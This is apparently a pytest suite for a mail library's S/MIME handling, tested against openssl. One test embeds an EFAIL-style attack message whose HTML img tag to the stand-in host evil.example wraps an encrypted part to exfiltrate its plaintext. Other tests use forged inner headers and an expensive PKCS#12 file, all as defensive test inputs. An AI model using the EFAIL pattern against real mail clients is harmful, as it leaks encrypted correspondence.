"""S/MIME both ways: what we make, openssl opens; what openssl makes, we open; and what is wrong with others is told."""

import asyncio
import re
from pathlib import Path

import pytest

from folkmoot.core.errors import Forbidden, MalformedInput, TooLarge, Unavailable
from folkmoot.mail.smime import Certificate, Layer, Openssl, Signature, Smime, Verdict
from folkmoot.mail.smime.entities import encrypted_entity
from folkmoot.mail.smime.openssl import OUTPUT_MAX
from folkmoot.mime.reading import read_message
from tests.support.smime_people import Authority, Person, authority, openssl, somebody

pytestmark = pytest.mark.anyio

MAIL = (
    b"From: Anja <anja@example.org>\r\nTo: bernd@example.org\r\nSubject: Angebot\r\nMIME-Version: 1.0\r\n"
    b"Message-ID: <1@example.org>\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    b"Guten Tag, Pr\xc3\xbcfung am Donnerstag.\r\n"
)
ENTITY = MAIL[MAIL.index(b"Content-Type") :]
SENDER = "anja@example.org"
KINDS = pytest.mark.parametrize("kind", ["rsa:2048", "ec"])


def smime(of: Authority | None = None) -> Smime:
    return Smime(Openssl(), (of or authority()).certificate_file, system_store=False)


def wrap(entity: bytes) -> bytes:
    """Return a message of an entity that openssl made, with the fields of MAIL."""
    return MAIL[: MAIL.index(b"MIME-Version")] + re.sub(rb"^MIME-Version: 1.0\r?\n", b"", entity)


def signed_by_openssl(person: Person, *options: str, entity: bytes = ENTITY) -> bytes:
    chain = str(authority().certificate_file)
    return wrap(
        openssl(
            "cms",
            "-sign",
            "-binary",
            "-crlfeol",
            "-signer",
            str(person.certificate_file),
            "-inkey",
            str(person.key_file),
            "-certfile",
            chain,
            *options,
            stdin=entity,
        )
    )


def encrypted_by_openssl(person: Person, *options: str, entity: bytes = ENTITY) -> bytes:
    return wrap(openssl("cms", "-encrypt", "-binary", *options, str(person.certificate_file), stdin=entity))


def only(signatures: tuple[Signature, ...]) -> Signature:
    (one,) = signatures
    return one


@KINDS
async def test_openssl_verifies_what_we_sign(kind: str, tmp_path: Path) -> None:
    signed = await smime().sign(MAIL, somebody(kind=kind).key)
    assert signed.startswith(b"From: Anja <anja@example.org>\r\n")
    assert signed.count(b"Subject: Angebot") == 1
    (tmp_path / "m.eml").write_bytes(signed)
    out = openssl("cms", "-verify", "-in", str(tmp_path / "m.eml"), "-CAfile", str(authority().certificate_file))
    assert out == ENTITY


@KINDS
async def test_we_verify_what_we_sign(kind: str) -> None:
    opened = await smime().open(await smime().sign(MAIL, somebody(kind=kind).key), [], sender=SENDER)
    signature = only(opened.signatures)
    assert (signature.verdict, signature.mismatch, signature.good) == (Verdict.VALID, False, True)
    assert (opened.layers, signature.signers[0].addresses) == ((Layer.SIGNED,), (SENDER,))
    assert read_message(opened.message).content("1") == b"Guten Tag, Pr\xc3\xbcfung am Donnerstag.\r\n"
    assert opened.message == MAIL.replace(b"MIME-Version: 1.0\r\n", b"", 1).replace(
        b"Content-Type", b"MIME-Version: 1.0\r\nContent-Type"
    )


@KINDS
@pytest.mark.parametrize("options", [(), ("-md", "sha512"), ("-md", "sha1"), ("-noattr",), ("-keyid",)], ids=str)
async def test_we_verify_what_openssl_signs(kind: str, options: tuple[str, ...]) -> None:
    opened = await smime().open(signed_by_openssl(somebody(kind=kind), *options), [], sender=SENDER)
    assert only(opened.signatures).good


async def test_we_verify_pss_signatures() -> None:
    signed = signed_by_openssl(somebody(), "-keyopt", "rsa_padding_mode:pss")
    assert only((await smime().open(signed, [], sender=SENDER)).signatures).good


async def test_an_opaque_signature_is_taken_off() -> None:
    opened = await smime().open(signed_by_openssl(somebody(), "-nodetach"), [], sender=SENDER)
    assert only(opened.signatures).good
    assert read_message(opened.message).content("1") == b"Guten Tag, Pr\xc3\xbcfung am Donnerstag.\r\n"


@pytest.mark.parametrize("options", [(), ("-nodetach",)], ids=["detached", "opaque"])
async def test_altered_text_is_told_and_shown(options: tuple[str, ...]) -> None:
    message = signed_by_openssl(somebody(), *options)
    if options:
        content = read_message(message).content("1").replace(b"Donnerstag", b"Freitag   ")
        message = MAIL[: MAIL.index(b"MIME-Version")] + encrypted_entity(content, "signed-data")
    else:
        message = message.replace(b"Donnerstag", b"Freitag   ")
    opened = await smime().open(message, [], sender=SENDER)
    signature = only(opened.signatures)
    assert (signature.verdict, signature.good) == (Verdict.ALTERED, False)
    assert b"Freitag" in opened.message


async def test_another_sender_is_told() -> None:
    opened = await smime().open(signed_by_openssl(somebody()), [], sender="chef@example.org")
    assert (only(opened.signatures).verdict, only(opened.signatures).mismatch) == (Verdict.VALID, True)
    assert not only(opened.signatures).good


async def test_addresses_are_compared_without_case() -> None:
    opened = await smime().open(signed_by_openssl(somebody()), [], sender="Anja@EXAMPLE.org")
    assert only(opened.signatures).good


async def test_an_authority_that_nobody_trusts_is_told() -> None:
    stranger = Authority("Stranger")
    opened = await smime(stranger).open(signed_by_openssl(somebody()), [], sender=SENDER)
    assert only(opened.signatures).verdict is Verdict.UNTRUSTED
    assert only(opened.signatures).signers[0].name == "Anja"


async def test_an_expired_certificate_is_told() -> None:
    person = authority().person(SENDER, expired=True)
    opened = await smime().open(await smime().sign(MAIL, person.key), [], sender=SENDER)
    assert (only(opened.signatures).verdict, "expired" in only(opened.signatures).error) == (Verdict.EXPIRED, True)


async def test_a_certificate_for_web_servers_is_told() -> None:
    person = authority().person(SENDER, use="server")
    opened = await smime().open(signed_by_openssl(person), [], sender=SENDER)
    assert only(opened.signatures).verdict is Verdict.UNSUITABLE
    with pytest.raises(Forbidden):
        await smime().sign(MAIL, person.key)


async def test_a_signature_that_is_none_is_told_and_the_text_shown() -> None:
    signed = re.sub(rb"(?s)(smime.p7s\"\r?\n\r?\n).*?(\r?\n\r?\n?--)", rb"\1AAAA\2", signed_by_openssl(somebody()))
    opened = await smime().open(signed, [], sender=SENDER)
    assert only(opened.signatures).verdict is Verdict.UNREADABLE
    assert b"Donnerstag" in opened.message


async def test_what_a_mailing_list_put_around_is_not_signed() -> None:
    signed = await smime().sign(MAIL, somebody().key)
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    listed = (
        b"From: anja@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=l\r\n\r\n--l\r\n"
        + inner + b"\r\n--l\r\nContent-Type: text/plain\r\n\r\nfooter\r\n--l--\r\n"
    )  # fmt: skip
    assert (await smime().open(listed, [], sender=SENDER)).signatures == ()
    alone = await smime().open(listed, [], sender=SENDER, path="1")
    assert only(alone.signatures).good
    assert b"footer" not in alone.message


@KINDS
@pytest.mark.parametrize("authenticated", [False, True], ids=["cbc", "gcm"])
async def test_openssl_decrypts_what_we_encrypt(kind: str, authenticated: bool, tmp_path: Path) -> None:
    person, other = somebody("bernd@example.org", kind), somebody()
    certificates = [person.key.certificate, other.key.certificate, person.key.certificate]
    encrypted = await smime().encrypt(MAIL, certificates, authenticated=authenticated)
    assert b"Donnerstag" not in encrypted
    assert encrypted.startswith(b"From: Anja")
    (tmp_path / "m.eml").write_bytes(encrypted)
    for one in (person, other):
        out = openssl(
            "cms",
            "-decrypt",
            "-in",
            str(tmp_path / "m.eml"),
            "-inkey",
            str(one.key_file),
            "-recip",
            str(one.certificate_file),
        )
        assert out == ENTITY


@KINDS
@pytest.mark.parametrize("cipher", ["-aes-128-cbc", "-aes-256-cbc", "-des3", "-aes-256-gcm", "-camellia-256-cbc"])
async def test_we_decrypt_what_openssl_encrypts(kind: str, cipher: str) -> None:
    person = somebody("bernd@example.org", kind)
    opened = await smime().open(encrypted_by_openssl(person, cipher), [somebody().key, person.key])
    assert (opened.layers, opened.error) == ((Layer.ENCRYPTED,), "")
    assert read_message(opened.message).content("1") == b"Guten Tag, Pr\xc3\xbcfung am Donnerstag.\r\n"
    assert not opened.remote_allowed


async def test_we_decrypt_the_weak_ciphers_of_old_messages() -> None:
    person = somebody("bernd@example.org")
    old = encrypted_by_openssl(person, "-provider", "legacy", "-provider", "default", "-rc2-40")
    assert (await smime().open(old, [person.key])).decrypted


async def test_signed_and_encrypted_is_opened_to_the_core() -> None:
    anja, bernd = somebody(), somebody("bernd@example.org")
    sealed = await smime().encrypt(await smime().sign(MAIL, anja.key), [anja.key.certificate, bernd.key.certificate])
    opened = await smime().open(sealed, [bernd.key], sender=SENDER)
    assert opened.layers == (Layer.ENCRYPTED, Layer.SIGNED)
    assert only(opened.signatures).good
    assert opened.remote_allowed
    assert b"Donnerstag" in opened.message


async def test_triple_wrapping_is_opened() -> None:
    anja, bernd = somebody(), somebody("bernd@example.org")
    wrapped = await smime().sign(
        await smime().encrypt(await smime().sign(MAIL, anja.key), [bernd.key.certificate]), anja.key
    )
    opened = await smime().open(wrapped, [bernd.key], sender=SENDER)
    assert opened.layers == (Layer.SIGNED, Layer.ENCRYPTED, Layer.SIGNED)


async def test_layers_end_somewhere() -> None:
    message = MAIL
    for _ in range(8):
        message = await smime().sign(message, somebody(kind="ec").key)
    assert len((await smime().open(message, [])).layers) == 5


async def test_without_the_key_the_message_stays_closed() -> None:
    encrypted = encrypted_by_openssl(somebody("bernd@example.org"))
    for keys, words in (([], "no key"), ([somebody().key], "somebody else")):
        opened = await smime().open(encrypted, keys)
        assert (opened.layers, opened.decrypted) == ((), False)
        assert words in opened.error


async def test_altered_ciphertext_is_refused_with_gcm() -> None:
    person = somebody("bernd@example.org")
    read = read_message(await smime().encrypt(MAIL, [person.key.certificate], authenticated=True))
    content = bytearray(read.content("1"))
    content[len(content) // 2 + 100] ^= 1
    message = (
        b"From: anja@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\n"
        b"Content-Transfer-Encoding: binary\r\n\r\n" + bytes(content)
    )
    opened = await smime().open(message, [person.key])
    assert not opened.decrypted
    assert opened.error


async def test_encrypted_parts_beside_others_are_not_decrypted() -> None:
    """As EFAIL needs it: a page that is opened by one part, closed by another, around somebody's secret."""
    person = somebody("bernd@example.org")
    secret = encrypted_by_openssl(person)
    part = secret[secret.index(b"Content-Disposition") :] if b"Content-Disposition" in secret else secret
    message = (
        b"From: eve@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=e\r\n\r\n--e\r\n"
        b'Content-Type: text/html\r\n\r\n<img src="https://evil.example/\r\n--e\r\n'
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n"
        + part + b'\r\n--e\r\nContent-Type: text/html\r\n\r\n">\r\n--e--\r\n'
    )  # fmt: skip
    opened = await smime().open(message, [person.key])
    assert (opened.message, opened.layers) == (message, ())


async def test_fields_within_do_not_look_like_those_of_the_message() -> None:
    forged = b"From: chef@example.org\r\nSubject: Kuendigung\r\n" + ENTITY
    opened = await smime().open(signed_by_openssl(somebody(), "-nodetach", entity=forged), [], sender=SENDER)
    headers = read_message(opened.message).headers()
    assert (headers.all("subject"), headers.addresses("from")[0].address) == ((b"Angebot",), SENDER)


@pytest.mark.parametrize("options", [(), ("-legacy",), ("-certpbe", "NONE"), ("-legacy", "-macalg", "sha1")], ids=str)
@pytest.mark.parametrize("password", ["geheim", "Prüfung & Co", ""])
async def test_pkcs12_files_are_opened(options: tuple[str, ...], password: str) -> None:
    person = somebody()
    key = await smime().import_pkcs12(person.pkcs12(password, *options), password)
    assert (key.certificate.fingerprint, key.certificate.addresses) == (person.key.certificate.fingerprint, (SENDER,))
    assert only((await smime().open(await smime().sign(MAIL, key), [], sender=SENDER)).signatures).signers


async def test_pkcs12_with_the_wrong_password_or_something_else_is_refused() -> None:
    with pytest.raises(Forbidden):
        await smime().import_pkcs12(somebody().pkcs12("geheim"), "falsch")
    with pytest.raises(MalformedInput):
        await smime().import_pkcs12(b"nichts", "x")
    with pytest.raises(MalformedInput):
        await smime().import_pkcs12(somebody().pkcs12("x"), "a\nb")
    with pytest.raises(MalformedInput):
        await smime().import_pkcs12(somebody().pkcs12("x", "-nokeys"), "x")
    with pytest.raises(TooLarge):
        await smime().import_pkcs12(bytes(1_000_001), "x")


async def test_a_pkcs12_file_that_takes_for_ever_is_given_up() -> None:
    slow = Smime(Openssl(seconds=0.1))
    bomb = somebody().pkcs12("x", "-iter", "500000")
    with pytest.raises(Unavailable, match="too long"):
        await slow.import_pkcs12(bomb, "x")


def _open_files() -> int:
    return len(list(Path("/dev/fd").iterdir()))


async def test_nothing_is_left_open() -> None:
    person = somebody()
    encrypted = encrypted_by_openssl(person)
    await smime().open(encrypted, [person.key])
    before = _open_files()
    with pytest.raises(Unavailable):
        await Openssl(seconds=0.05).run(["prime", "-generate", "-bits", "16384"])
    await smime().open(encrypted, [person.key])
    assert _open_files() <= before


async def test_a_missing_openssl_is_told() -> None:
    with pytest.raises(Unavailable):
        await Smime(Openssl("/nonexistent/openssl")).open(signed_by_openssl(somebody()), [])


async def test_output_is_bounded() -> None:
    with pytest.raises(TooLarge):
        await Openssl().run(["rand", str(OUTPUT_MAX + 1)])


async def test_few_children_run_at_once() -> None:
    runner = Openssl(children=2)
    done = await asyncio.gather(*(runner.run(["rand", "-hex", "4"]) for _ in range(20)))
    assert all(one.succeeded for one in done)


async def test_nobody_is_encrypted_for_who_cannot_be() -> None:
    with pytest.raises(MalformedInput):
        await smime().encrypt(MAIL, [])
    server: Certificate = authority().person(SENDER, use="server").key.certificate
    with pytest.raises(Forbidden):
        await smime().encrypt(MAIL, [server])
